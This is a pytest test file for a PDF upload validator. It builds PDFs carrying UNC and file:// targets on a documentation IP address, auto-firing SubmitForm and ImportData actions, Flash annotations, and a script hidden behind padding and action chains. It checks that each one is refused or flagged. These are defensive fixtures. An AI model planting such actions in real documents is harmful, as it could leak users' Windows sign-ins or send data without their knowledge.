"""PDF actions that hand a Windows sign-in to another computer, send or open things by
themselves, or run Flash, and PDFs too big to walk whole: none is passed silently."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)

from toolbox_uploader.core.validation import ValidationReport, Verdict, pdf, validate_file


def codes(report: ValidationReport) -> list[str]:
    return [r.code for r in report.reasons]


def name(value: str) -> NameObject:
    return NameObject(value)


def action(kind: str, **entries: object) -> DictionaryObject:
    made = DictionaryObject({name("/S"): name(kind)})
    for key, value in entries.items():
        made[name("/" + key)] = (TextStringObject(value) if isinstance(value, str)
                                 else value)  # type: ignore[assignment]
    return made


def annotation(subtype: str = "/Link", **entries: object) -> DictionaryObject:
    made = DictionaryObject({
        name("/Type"): name("/Annot"), name("/Subtype"): name(subtype),
        name("/Rect"): ArrayObject([FloatObject(v) for v in (10, 10, 50, 20)]),
    })
    for key, value in entries.items():
        made[name("/" + key)] = value  # type: ignore[assignment]
    return made


def make_pdf(path: Path, *, pages: int = 1,
             extend: Callable[[PdfWriter], None] = lambda writer: None) -> Path:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(200, 200)
    extend(writer)
    writer.write(path)
    return path


def annotate(writer: PdfWriter, page: int, annots: list[DictionaryObject]) -> None:
    writer.pages[page][name("/Annots")] = ArrayObject(writer._add_object(a) for a in annots)


def open_action(made: DictionaryObject) -> Callable[[PdfWriter], None]:
    def extend(writer: PdfWriter) -> None:
        writer._root_object[name("/OpenAction")] = writer._add_object(made)
    return extend


def link(made: DictionaryObject) -> Callable[[PdfWriter], None]:
    return lambda writer: annotate(writer, 0, [annotation(A=made)])


URL_SPEC = DictionaryObject({name("/FS"): name("/URL"),
                             name("/F"): TextStringObject(r"\\198.51.100.7\forms")})


@pytest.mark.parametrize("extend", [
    open_action(action("/GoToR", F=r"\\198.51.100.7\share\x.pdf",
                       D=ArrayObject([FloatObject(0)]))),
    link(action("/GoToE", F=DictionaryObject({name("/UF"): TextStringObject(
        "file://198.51.100.7/share/x.pdf")}))),
    link(action("/URI", URI="file://198.51.100.7/share/notes.pdf")),
    link(action("/URI", URI=r"\\198.51.100.7\share")),
    link(action("/SubmitForm", F=URL_SPEC)),  # even on a click
    link(action("/URI", URI="https://example.test/a", Next=action(
        "/GoToR", F="//198.51.100.7/share/x.pdf"))),
], ids=["gotor-on-open", "gotoe-file-url", "uri-file", "uri-unc", "submit-unc", "next"])
@pytest.mark.parametrize("category", ["educational_content", "temporary"])
def test_a_target_on_another_computer_is_refused(
        extend: Callable[[PdfWriter], None], category: str, tmp_path: Path) -> None:
    path = make_pdf(tmp_path / "sheet.pdf", extend=extend)
    assert codes(validate_file(path, category)) == ["pdf_remote_file"]


def page_opened(made: DictionaryObject) -> Callable[[PdfWriter], None]:
    def extend(writer: PdfWriter) -> None:
        writer.pages[0][name("/AA")] = DictionaryObject({name("/O"): made})
    return extend


@pytest.mark.parametrize("extend", [
    open_action(action("/SubmitForm", F=DictionaryObject({
        name("/FS"): name("/URL"), name("/F"): TextStringObject("https://example.test/c")}))),
    page_opened(action("/ImportData", F="answers.fdf")),
    open_action(action("/GoToE", T=DictionaryObject({
        name("/R"): name("/C"), name("/N"): TextStringObject("inner.pdf")}))),
    lambda writer: annotate(writer, 0, [annotation(AA=DictionaryObject({
        name("/PO"): action("/SubmitForm", F="https://example.test/c")}))]),
], ids=["submit-on-open", "import-on-page-open", "gotoe-on-open", "submit-when-shown"])
def test_sending_or_opening_by_itself_is_refused(
        extend: Callable[[PdfWriter], None], tmp_path: Path) -> None:
    path = make_pdf(tmp_path / "form.pdf", extend=extend)
    assert codes(validate_file(path, "administrative")) == ["pdf_auto_action"]


def test_ordinary_links_and_a_submit_button_pass(tmp_path: Path) -> None:
    def extend(writer: PdfWriter) -> None:
        annotate(writer, 0, [
            annotation(A=action("/URI", URI="https://example.test/lesson")),
            annotation(A=action("/GoToR", F="chapter2.pdf", D=ArrayObject([FloatObject(0)]))),
            annotation(A=action("/URI", URI="file:///C:/Users/t/notes.pdf")),
            annotation("/Widget", A=action("/SubmitForm", F=DictionaryObject({
                name("/FS"): name("/URL"),
                name("/F"): TextStringObject("https://example.test/submit")}))),
            annotation("/Widget", AA=DictionaryObject({
                name("/U"): action("/SubmitForm", F="https://example.test/submit")})),
        ])

    path = make_pdf(tmp_path / "quiz.pdf", extend=extend)
    report = validate_file(path, "assessment")
    assert report.verdict is Verdict.ACCEPT, report.reasons


def test_flash_in_a_pdf_is_refused(tmp_path: Path) -> None:
    extend = lambda writer: annotate(writer, 0, [annotation("/RichMedia")])  # noqa: E731
    path = make_pdf(tmp_path / "media.pdf", extend=extend)
    assert codes(validate_file(path, "educational_content")) == ["pdf_rich_media"]


def script() -> DictionaryObject:
    return action("/JavaScript", JS="app.alert(1)")


def padded(writer: PdfWriter) -> None:
    """200 harmless links on page 1, a script behind a link on page 2."""
    annotate(writer, 0, [annotation(A=action("/URI", URI=f"https://example.test/{n}"))
                         for n in range(200)])
    annotate(writer, 1, [annotation(A=script())])


@pytest.mark.parametrize(("category", "verdict"), [
    ("educational_content", Verdict.REJECT),
    ("administrative", Verdict.WARN),
])
def test_a_pdf_past_the_walk_budget_is_not_passed_silently(
        category: str, verdict: Verdict, monkeypatch: pytest.MonkeyPatch,
        tmp_path: Path) -> None:
    monkeypatch.setattr(pdf, "MAX_NODES", 300)  # what 100,000 is for a real file: too slow
    path = make_pdf(tmp_path / "padded.pdf", pages=2, extend=padded)
    report = validate_file(path, category)
    assert report.verdict is verdict
    found = report.reasons if verdict is Verdict.REJECT else report.warnings
    assert [r.code for r in found] == ["pdf_not_fully_checked"]


def test_a_script_past_a_long_chain_of_actions_is_not_passed_silently(tmp_path: Path) -> None:
    chain = script()
    for n in range(40):
        chain = action("/URI", URI=f"https://example.test/{n}", Next=chain)
    path = make_pdf(tmp_path / "chain.pdf", extend=link(chain))
    assert codes(validate_file(path, "student_submission")) == ["pdf_not_fully_checked"]


def test_a_textbook_with_thousands_of_links_is_checked_whole(tmp_path: Path) -> None:
    def links(writer: PdfWriter) -> None:
        for page in range(100):
            annotate(writer, page, [
                annotation(A=action("/URI", URI=f"https://example.test/{page}/{n}"))
                for n in range(50)])
        for page in range(0, 100, 5):
            writer.add_outline_item(title=f"Chapter {page}", page_number=page)

    path = make_pdf(tmp_path / "book.pdf", pages=100, extend=links)
    report = validate_file(path, "educational_content")
    assert report.verdict is Verdict.ACCEPT, report.reasons


def test_bookmarks_that_loop_are_not_taken_for_a_huge_file(tmp_path: Path) -> None:
    def looping(writer: PdfWriter) -> None:
        first = writer.add_outline_item(title="Part 1", page_number=0)
        second = writer.add_outline_item(title="Part 2", page_number=0)
        second.get_object()[name("/Next")] = first  # a damaged writer's loop

    path = make_pdf(tmp_path / "loop.pdf", extend=looping)
    report = validate_file(path, "educational_content")
    assert report.verdict is Verdict.ACCEPT, report.reasons
